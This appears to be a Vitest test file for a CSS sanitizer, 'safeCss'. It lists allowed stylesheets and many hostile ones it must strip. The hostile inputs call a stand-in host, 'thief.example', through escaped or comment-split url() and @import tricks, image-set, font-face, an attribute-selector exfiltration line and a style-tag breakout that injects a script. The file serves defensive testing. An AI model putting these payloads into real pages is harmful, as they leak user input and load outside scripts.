import { describe, expect, it } from 'vitest';
import { safeCss } from './safeCss.ts';

const safe = (css: string) => safeCss(css, 'https://house.example');

describe('safeCss', () => {
  it.each([
    'header { border-color: red }',
    '.a > .b::before { content: "x" }',
    '@media (min-width: 700px) { footer { color: #fff } }',
    'body { background: url("/media/own.png") }',
    'body { background: url("https://house.example/own.png") }',
    'i { background: url("data:image/png;base64,iVBORw0KGgo=") }',
  ])('keeps %s', (css) => expect(safe(css)).toBe(css));

  it.each([
    'body { background: url(https://thief.example/a) }',
    "input[value^='a'] { background: url('//thief.example/a') }",
    'body { background: URL(  "http://thief.example/a"  ) }',
    '@import "https://thief.example/a.css"; a { color: red }',
    "@import url('https://thief.example/a.css')",
    '@\\69mport "https://thief.example/a.css";',
    'a { background: u\\72l(https://thief.example/a) }',
    'a { background: \\75\\72\\6c(https://thief.example/a) }',
    'a { background: u/**/rl(https://thief.example/a) }',
    'a { background: image-set("https://thief.example/a" 1x) }',
    'a { background: -webkit-image-set("https://thief.example/a" 1x) }',
    '@font-face { font-family: x; src: url(https://thief.example/f) }',
    'a { background: url(https://thief.example/a',
    'a { color: red } </style><script src=https://thief.example></script>',
    'a { background: url(javascript:alert(1)) }',
    'a { background: url(data:text/html,thief.example) }',
    '/* */ @import /* */ "https://thief.example"',
  ])('removes external requests from %s', (css) => {
    const result = safe(css);
    expect(result).not.toMatch(/url\s*\(\s*["']?(?!none)(?:https?:|\/\/|data:text|javascript:)/i);
    expect(result).not.toMatch(/@import|<|image-set/i);
  });
});
